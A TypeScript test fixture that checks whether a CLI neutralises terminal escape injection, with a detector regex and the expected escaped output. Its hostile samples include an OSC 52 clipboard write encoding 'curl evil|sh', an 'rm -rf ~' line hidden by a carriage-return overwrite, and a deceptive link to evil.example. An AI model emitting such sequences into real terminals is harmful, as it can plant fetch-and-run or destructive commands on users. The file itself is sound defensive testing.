// What the terminal-safety tests look for in the bytes the CLI printed.

/** Text that makes a terminal act: an OSC 52 clipboard write, a clear, an OSC 8 link, a title, an overwrite, C1, bidi. */
export const HOSTILE = {
  clipboard: "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
  clear: "\x1b[2J\x1b[H",
  link: "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
  title: "\x1b]0;pwned\x07",
  overwrite: "rm -rf ~\r# all good",
  c1: "\x9b2J",
  bidi: "\u202eevil\u202c",
} as const;
export const ALL_HOSTILE = Object.values(HOSTILE).join(" ");

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this looks for.
const OBEYED = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g;
// biome-ignore lint/suspicious/noControlCharactersInRegex: the CLI's own colour escapes are what this removes.
const PALETTE = /\x1b\[(?:1|2|22|31|32|33|35|36|39)m/g;

/**
 * Every character in the printed bytes that a terminal would obey, once the
 * CLI's own colours are taken away and CRLF line ends folded: [] is safe.
 */
export function obeyed(bytes: string): string[] {
  return [...bytes.replace(PALETTE, "").replace(/\r\n/g, "\n").matchAll(OBEYED)].map(
    (m) => `U+${m[0].charCodeAt(0).toString(16).padStart(4, "0")} at ${m.index}`,
  );
}

/** How the CLI shows each piece of HOSTILE (render/terminal-safe.ts). */
export const SHOWN = {
  clipboard: "␛]52;c;Y3VybCBldmlsfHNo␇",
  clear: "␛[2J␛[H",
  link: "␛]8;;https://evil.example/␛\\docs␛]8;;␛\\",
  title: "␛]0;pwned␇",
  overwrite: "rm -rf ~␍# all good",
  c1: "⟨U+009B⟩2J",
  bidi: "⟨U+202E⟩evil⟨U+202C⟩",
} as const;
